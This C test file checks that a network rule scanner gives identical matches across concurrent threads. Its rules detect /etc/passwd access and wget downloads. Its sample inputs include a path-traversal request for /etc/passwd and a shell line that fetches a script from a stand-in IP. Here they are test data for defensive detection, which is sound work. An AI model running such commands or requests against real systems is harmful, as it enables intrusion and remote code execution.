// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * One ruleset, several scanning threads, one scan_ctx each: every thread must get exactly
 * the matches a single-threaded scan gets, sample after sample, while the others scan.
 */
#include <pthread.h>
#include <stdlib.h>

#include "../support/test.h"
#include "../rules/rules_test.h"

#define THREADS 4
#define ROUNDS 2000

static const char rules_text[] =
	"alert http any any -> any any (http.uri; content:\"/etc/passwd\"; sid:1;)\n"
	"alert tcp any any -> any any (content:\"wget\"; nocase; pcre:\"/wget\\s+https?:\\/\\//i\"; "
	"sid:2;)\n"
	"alert tcp any any -> any any (content:\"a\"; content:\"b\"; distance:0; within:1; sid:3;)\n"
	"alert tcp any any -> any any (http.user_agent; content:\"python\"; sid:4;)\n"
	"alert tcp any any -> any any (content:!\"GET\"; dsize:<40; sid:5;)\n";

static const char *const samples[] = {
	"GET /x/../etc/passwd HTTP/1.1\r\nUser-Agent: python-requests/2.31\r\n\r\n",
	"sh -c 'WGET http://198.51.100.7/x.sh'",
	"a-a-a-ab and more padding to be long enough",
	"GET / HTTP/1.1\r\nUser-Agent: curl\r\n\r\n",
	"short",
};
#define SAMPLE_COUNT (sizeof(samples) / sizeof(samples[0]))

struct worker {
	const struct ruleset *rs;
	size_t index;
	char expected[SAMPLE_COUNT][64];
	int mismatches;
	int errors;
};

static void *scan_worker(void *arg)
{
	struct worker *w = arg;
	struct scan_ctx *ctx = scan_ctx_new(w->rs);
	size_t round, i;

	if (!ctx) {
		w->errors++;
		return NULL;
	}
	for (round = 0; round < ROUNDS; round++) {
		for (i = 0; i < SAMPLE_COUNT; i++) {
			/* each thread walks the samples from a different start */
			size_t s = (i + w->index) % SAMPLE_COUNT;
			struct scan_input in = test_input(samples[s]);
			struct test_matches matches = { 0 };
			char got[64];

			if (ruleset_scan(w->rs, ctx, &in, test_collect, &matches)) {
				w->errors++;
				continue;
			}
			test_sids_text(&matches, got, sizeof(got));
			w->mismatches += strcmp(got, w->expected[s]) != 0;
		}
	}
	scan_ctx_free(ctx);
	return NULL;
}

static void test_concurrent_contexts(struct test_case *t)
{
	struct worker workers[THREADS];
	pthread_t threads[THREADS];
	struct rules_report report;
	struct ruleset *rs = NULL;
	size_t i, k;
	int started = 0;

	CHECK(t, test_load_text(rules_text, &rs, &report, NULL) == 0, "load");
	memset(workers, 0, sizeof(workers));
	for (i = 0; i < SAMPLE_COUNT; i++) {
		struct scan_input in = test_input(samples[i]);
		struct test_matches matches;

		EXPECT(t, test_scan(rs, &in, &matches) == 0, "reference scan");
		for (k = 0; k < THREADS; k++)
			test_sids_text(&matches, workers[k].expected[i], sizeof(workers[k].expected[i]));
	}
	EXPECT(t, !strcmp(workers[0].expected[0], "1,4") && !strcmp(workers[0].expected[1], "2") &&
			  !strcmp(workers[0].expected[2], "3") &&
			  !strcmp(workers[0].expected[3], "none") &&
			  !strcmp(workers[0].expected[4], "5"),
	       "reference matches %s %s %s %s %s", workers[0].expected[0], workers[0].expected[1],
	       workers[0].expected[2], workers[0].expected[3], workers[0].expected[4]);
	for (k = 0; k < THREADS; k++) {
		workers[k].rs = rs;
		workers[k].index = k;
		if (pthread_create(&threads[k], NULL, scan_worker, &workers[k]) == 0)
			started++;
	}
	for (k = 0; k < (size_t)started; k++)
		pthread_join(threads[k], NULL);
	EXPECT(t, started == THREADS, "%d threads started", started);
	for (k = 0; k < THREADS; k++)
		EXPECT(t, workers[k].mismatches == 0 && workers[k].errors == 0,
		       "thread %zu: %d mismatches, %d errors", k, workers[k].mismatches,
		       workers[k].errors);
	ruleset_free(rs);
	rules_report_free(&report);
}

int main(void)
{
	test_program = "test_rules_threads";
	RUN(test_concurrent_contexts);
	return test_summary();
}
